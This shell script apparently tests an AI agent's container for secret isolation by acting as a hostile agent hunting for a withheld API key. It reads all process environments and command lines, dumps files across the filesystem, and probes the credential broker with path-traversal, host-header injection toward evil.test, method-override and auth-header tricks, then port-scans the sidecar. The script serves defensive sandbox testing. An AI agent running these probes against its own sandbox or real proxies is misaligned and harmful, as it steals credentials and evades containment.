# Looks for a key that must not be here: as an agent that means ill, from within its own container. One line for each attempt,
# `NAME found|nothing` or `NAME STATUS`.
#
# The key comes in two halves, so that what looks for it is not what it finds. Beside it another value is looked for in the
# same way, which is in all these places: else an attempt would prove nothing.
#
# look.sh HALF HALF CONTROL-HALF CONTROL-HALF FORMER-PLACEHOLDER
key=$1$2 control=$3$4 former=$5

echo "$control" | tee ~/control /tmp/control >control
CONTROL=$control sleep 600 &
perl -e 'sleep 600' "$control" &

# Reads its standard input.
seen() { if grep -qaFf <(printf %s "$1"); then echo found; else echo nothing; fi; }

# One way of looking: a command that prints all that it can see.
look() {
    echo "$1 $(eval "$2" 2>/dev/null | seen "$key")"
    echo "control-$1 $(eval "$2" 2>/dev/null | seen "$control")"
}

look environment 'cat /proc/*/environ'
look arguments 'cat /proc/[0-9]*/cmdline'
look home 'find ~ -type f -size -2000k -exec cat {} +'
look files 'find /tmp /run /etc /var /mnt /srv /opt -type f -size -2000k -exec cat {} +'
look repository 'find . -type f -size -2000k -exec cat {} +'
look mounts 'for p in $(cut -d" " -f5 /proc/self/mountinfo | grep -v "^/proc\|^/sys\|^/dev\|^/$"); do find "$p" -xdev -maxdepth 2 -type f -size -2000k -exec cat {} +; done'

# The broker: the address and the placeholder are the agent's own. What is asked for first must work.
base=$(jq -r .providers.corp.baseUrl ~/.pi/agent/models.json)
place=$(jq -r .providers.corp.apiKey ~/.pi/agent/models.json)
origin=${base%"${base#http://*/}"}
path=/${base#http://*/}
body='{"model":"echo","messages":[{"role":"user","content":"hello"}],"stream":true}'
ask() {
    name=$1
    shift
    out=$(curl --noproxy '*' -s -m 5 -o answer -w '%{http_code}' --path-as-is "$@" 2>/dev/null)
    if grep -qaFf <(printf %s "$key") answer; then out=found; fi
    echo "$name $out"
}
post() {
    name=$1 url=$2
    shift 2
    ask "$name" -H "authorization: Bearer $place" -H 'content-type: application/json' -d "$body" "$@" "$url"
}
post ask-control "$base/chat/completions"
post ask-models "$base/models"
post ask-above "$base/../chat/completions"
post ask-dots "$base/x/../chat/completions"
post ask-encoded-dots "$base/%2e%2e/chat/completions"
post ask-query "$base/chat/completions?key=1"
post ask-files "$base/files"
post ask-slashes "${base}//chat/completions"
post ask-semicolon "$base/chat/completions;x"
post ask-upper "${origin}CUSTOM0-CORP/llm.test/v1/chat/completions"
post ask-other-host "${origin}custom0-corp/evil.test/v1/chat/completions"
post ask-root "${origin}v1/chat/completions"
post ask-absolute "${origin}" --request-target "https://evil.test/v1/chat/completions"
post ask-host-header "$base/chat/completions" -H 'host: evil.test'
post ask-forwarded "$base/chat/completions" -H 'x-forwarded-host: evil.test' -H 'x-original-url: /v1/files'
post ask-put "$base/chat/completions" -X PUT
post ask-delete "$base/chat/completions" -X DELETE
post ask-trace "$base/chat/completions" -X TRACE
post ask-connect "${origin}" -X CONNECT --request-target "llm.test:443"
post ask-override "$base/files" -H 'x-http-method-override: POST' -H 'x-rewrite-url: /v1/chat/completions'
post ask-upgrade "$base/chat/completions" -H 'connection: upgrade' -H 'upgrade: h2c'
post ask-chunked "$base/chat/completions" -H 'transfer-encoding: chunked'
ask ask-get "$base/chat/completions" -H "authorization: Bearer $place"
ask ask-nobody -d "$body" "$base/chat/completions"
ask ask-former -H "authorization: Bearer $former" -d "$body" "$base/chat/completions"
ask ask-own-key -H 'authorization: Bearer sk-of-the-attacker' -d "$body" "$base/chat/completions"
ask ask-in-another-header -H "x-api-key: $place" -d "$body" "$base/chat/completions"
ask ask-twice -H "authorization: Bearer $place" -H 'authorization: Bearer x' -d "$body" "$base/chat/completions"
ask ask-lower -H "authorization: bearer $place" -d "$body" "$base/chat/completions"
ask ask-part -H "authorization: Bearer ${place%?}" -d "$body" "$base/chat/completions"
ask ask-statistics "${origin}haproxy?stats"
ask ask-metrics "${origin}metrics"
ask ask-http2 --http2-prior-knowledge -H "authorization: Bearer $place" -d "$body" "$base/chat/completions"

# All other ports of the sidecar.
host=${origin#http://}
host=${host%%:*}
perl -MSocket -e '
    my $to = inet_aton(shift) or die;
    my @open;
    for my $port (1 .. 10_000) {
        socket(my $s, AF_INET, SOCK_STREAM, 0) or die;
        push @open, $port if connect($s, pack_sockaddr_in($port, $to));
    }
    print "ports @open\n";' "$host"
